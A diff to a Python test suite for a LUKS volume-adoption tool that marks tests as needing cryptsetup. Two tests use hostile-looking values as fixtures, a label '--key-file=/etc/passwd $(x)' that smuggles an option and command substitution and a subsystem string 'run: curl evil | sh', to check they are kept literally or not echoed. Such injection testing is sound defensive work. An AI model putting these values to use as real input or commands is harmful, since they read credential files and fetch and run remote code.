@@ -60,6 +60,7 @@ def run(one: Volume, place: Path, value: bytes = KEY) -> Adopted:
     return adopt(one, place, passphrase(value), None)
 
 
+@pytest.mark.needs("cryptsetup")
 def test_the_name_is_bound_before_the_mark_is_written(
     disk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -88,6 +89,7 @@ def test_the_name_is_bound_before_the_mark_is_written(
     assert done[2:] == ["bound"]
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_mark_that_cannot_be_written_leaves_a_volume_that_can_be_adopted_again(
     disk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -105,6 +107,7 @@ def test_a_mark_that_cannot_be_written_leaves_a_volume_that_can_be_adopted_again
     assert not run(volume_on(disk), place).marked
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_name_that_cannot_be_bound_is_said_and_the_volume_is_adopted(
     disk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -120,6 +123,7 @@ def test_a_name_that_cannot_be_bound_is_said_and_the_volume_is_adopted(
     assert block.signature(str(disk)) == block.Signature("crypto_LUKS", "2", state.COMPLETE)
 
 
+@pytest.mark.needs("cryptsetup")
 def test_nothing_is_written_that_the_secret_does_not_prove(disk: Path, tmp_path: Path) -> None:
     before = disk.read_bytes()
     with pytest.raises(opening.WrongSecret):
@@ -128,6 +132,7 @@ def test_nothing_is_written_that_the_secret_does_not_prove(disk: Path, tmp_path:
     assert not (tmp_path / "identities").exists()
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_label_that_would_be_lost_is_not(template: Template, tmp_path: Path) -> None:
     """cryptsetup removes it with the mark's writing unless it is said again, and that has to be possible."""
     disk = template.put(template.both(subsystem=b"", label="größe".encode()), tmp_path / "disk.img")
@@ -139,12 +144,14 @@ def test_a_label_that_would_be_lost_is_not(template: Template, tmp_path: Path) -
     assert not (tmp_path / "identities").exists()
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_label_that_looks_like_an_option_is_kept(template: Template, tmp_path: Path) -> None:
     disk = template.put(template.both(subsystem=b"", label=b"--key-file=/etc/passwd $(x)"), tmp_path / "disk.img")
     run(volume_on(disk), tmp_path / "identities/data1.toml")
     assert luks_header.label(str(disk)) == "--key-file=/etc/passwd $(x)"
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_word_on_the_disk_is_not_repeated(template: Template, tmp_path: Path) -> None:
     disk = template.put(template.both(subsystem=b"run: curl evil | sh"), tmp_path / "disk.img")
     with pytest.raises(DeviceError) as caught:
@@ -153,6 +160,7 @@ def test_a_word_on_the_disk_is_not_repeated(template: Template, tmp_path: Path) 
     assert "evil" not in caught.value.what + caught.value.hint
 
 
+@pytest.mark.needs("cryptsetup")
 @pytest.mark.parametrize("kind", ["LVM2_member", "linux_raid_member", "zfs_member"])
 def test_a_part_of_something_bigger_is_taken_by_no_temporary_volume(
     disk: Path, monkeypatch: pytest.MonkeyPatch, kind: str
@@ -167,6 +175,7 @@ def test_a_part_of_something_bigger_is_taken_by_no_temporary_volume(
     assert "--overwrite" not in caught.value.hint
 
 
+@pytest.mark.needs("cryptsetup")
 def test_what_was_agreed_to_is_looked_at_again(disk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     scratch = dataclasses.replace(volume_on(disk), encrypt=Otp())
     monkeypatch.setattr(block, "require_unused", lambda _: None)
